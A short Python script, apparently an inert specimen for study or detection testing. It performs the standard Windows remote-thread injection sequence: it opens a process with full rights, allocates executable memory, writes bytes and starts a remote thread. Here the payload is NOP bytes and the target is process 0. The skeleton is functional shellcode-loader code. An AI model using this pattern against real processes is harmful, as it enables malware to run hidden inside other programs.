# Inert specimen: the bytes are no-operations, and the process number is nobody's.
import ctypes

kernel32 = ctypes.windll.kernel32
code = b"\x90" * 64
process = kernel32.OpenProcess(0x1F0FFF, False, 0)
memory = kernel32.VirtualAllocEx(process, 0, len(code), 0x3000, 0x40)
kernel32.WriteProcessMemory(process, memory, code, len(code), 0)
kernel32.CreateRemoteThread(process, None, 0, memory, None, 0, None)
